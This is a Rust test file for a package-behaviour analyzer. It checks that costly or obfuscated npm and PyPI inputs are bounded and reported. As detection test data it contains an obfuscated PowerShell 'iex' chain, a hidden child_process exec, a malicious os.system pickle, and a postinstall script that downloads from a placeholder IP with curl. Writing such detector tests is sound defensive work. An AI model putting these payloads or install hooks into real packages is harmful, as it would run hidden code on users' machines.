//! Input built to cost: it ends with a sequence, and what was left out is told.

use std::fmt::Write as _;

use cerebro::behavior::{Reading, Sequence, extract};
use cerebro::package::{Ecosystem, File, Phase};
use rstest::rstest;

use super::{entry, npm, package, pypi};

fn read(package: &cerebro::package::Package) -> Sequence {
    extract(package, &Reading::default()).sequence
}

/// `$b` of the one before twice, again and again, from an empty text with a recipe.
fn doubled_recipes() -> String {
    let mut text = "$v0=[char]97 -replace 'a',''\n".to_owned();
    for i in 0..60 {
        let _ = writeln!(text, "$v{}=$v{i}+$v{i}", i + 1);
    }
    text + "iex $v60\n"
}

#[rstest]
#[case::recipes("a.ps1", doubled_recipes(), false)]
#[case::characters("a.ps1", format!("iex ({})", vec!["[char]97"; 20_000].join("+")), false)]
#[case::redirects("a.sh", format!("{{ {} }} {}", "a;".repeat(2500), ">b ".repeat(100_000)), true)]
#[case::translated("a.sh", format!("a={}\nb=' -~'{}\n{}", "é".repeat(50_000), "' -~'".repeat(20_000), "echo $a|tr \"$b\" x\n".repeat(5)), false)]
#[case::slices("a.sh", format!("v={}\n{}", "a".repeat(200_000), "echo ${v:0:1}\n".repeat(20_000)), true)]
fn costly_shell_text_ends(#[case] path: &str, #[case] text: String, #[case] told: bool) {
    let sequence = read(&package(Ecosystem::Npm, &[(path, &text)], vec![entry(Phase::Install, "postinstall", 0)]));
    assert_eq!(!sequence.skipped.is_empty(), told, "{:?}", sequence.skipped);
}

#[rstest]
#[case::a_list_in_itself("var a=[];a.push(a);x=''+a;x=a.join()+String(a)".to_owned())]
#[case::a_list_of_lists_of_lists(format!("var a=['x'];{}x=''+a", "a=[a,a];".repeat(60)))]
#[case::joined("var s='a'.repeat(9000000);x=[s,s,s,s,s,s,s,s].join(s)".to_owned())]
#[case::template("var s='a'.repeat(9000000);x=`${s}${s}${s}${s}`;x=String.raw`${s}${s}${s}${s}`".to_owned())]
#[case::replaced("x='a'.repeat(9000000).replace(/.*/s,'$&'.repeat(2000000))".to_owned())]
#[case::groups(format!("x='a'.repeat(200000).replace(/a{}/g,'')", "()".repeat(2000)))]
#[case::measured("function d(s){var t=s.repeat(9000000),n=0;for(var i=0;i<1000000;i++)n+=t.length;return 'x'+n} d('é')".to_owned())]
fn costly_javascript_ends(#[case] source: String) {
    assert!(read(&npm(&[("a.js", &source)])).steps.len() < 100);
}

#[test]
fn texts_joined_beyond_the_bound_are_not_joined() {
    let source = "x = 'a' * 16000000\ny = ''.join([x] * 200000)\nz = b''.join([x.encode()] * 200000)\nw = '%s%s%s' % (x, x, x)\n";
    assert!(read(&pypi(&[("a.py", source)])).steps.len() < 100);
}

#[test]
fn a_map_of_imports_does_not_multiply() {
    let manifest = format!("{{\"imports\":{{\"#*\":\"{}\"}}}}", "*".repeat(300_000));
    let source = format!("require('#{}')", "a".repeat(300_000));
    let mut package = npm(&[("a.js", &source), ("package.json", &manifest)]);
    package.manifest.file = Some(1);
    assert!(read(&package).steps.len() < 100);
}

#[test]
fn a_function_inside_a_decoder_is_walked() {
    let source = "function d(s){function hidden(){require('child_process').exec('id')} return s.split('').reverse().join('')} x=d('abc')";
    let sequence = read(&npm(&[("a.js", source)]));
    assert!(sequence.steps.iter().any(|step| step.feature.code() == "P2"), "{:?}", sequence.steps);
}

#[test]
fn a_program_started_runs_its_main_block_though_it_was_imported() {
    let setup = "import os, helper\nos.system('python helper.py')\n";
    let helper = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
    let files = [("helper.py", helper), ("setup.py", setup)];
    let sequence = read(&package(Ecosystem::Pypi, &files, vec![entry(Phase::Install, "setup.py", 1)]));
    let step = sequence.steps.iter().find(|step| step.detail == "shell id").unwrap();
    assert_eq!(step.phase, Phase::Install);
}

#[test]
fn a_pickle_longer_than_the_bound_is_told() {
    let bytes = [b"N0".repeat(500_001), b"cos\nsystem\n(S'id'\ntR.".to_vec()].concat();
    let mut package = pypi(&[("a.py", "")]);
    package.files.push(File { path: "package/data.pkl".to_owned(), bytes: bytes.into(), source: None });
    let sequence = read(&package);
    assert!(sequence.skipped.iter().any(|skip| skip.path == "package/data.pkl"), "{:?}", sequence.skipped);
}

#[test]
fn a_script_points_at_itself_and_not_at_a_file_of_its_name() {
    let manifest =
        r#"{"files": ["build"], "scripts": {"postinstall": "npm run build", "build": "curl -O http://203.0.113.5/a"}}"#;
    let mut package = npm(&[("a.js", ""), ("package.json", manifest)]);
    package.manifest.file = Some(1);
    let span = cerebro::text::Span { start: 0, end: 1 };
    let target = cerebro::package::Target::Shell { file: 1, span, text: "npm run build".to_owned() };
    package.entries = vec![cerebro::package::Entry { phase: Phase::Install, name: "postinstall".to_owned(), target }];
    let sequence = read(&package);
    let step = sequence.steps.iter().find(|step| step.detail.contains("script curl")).unwrap();
    assert_eq!(step.span.start, manifest.rfind("\"build\"").unwrap());
}
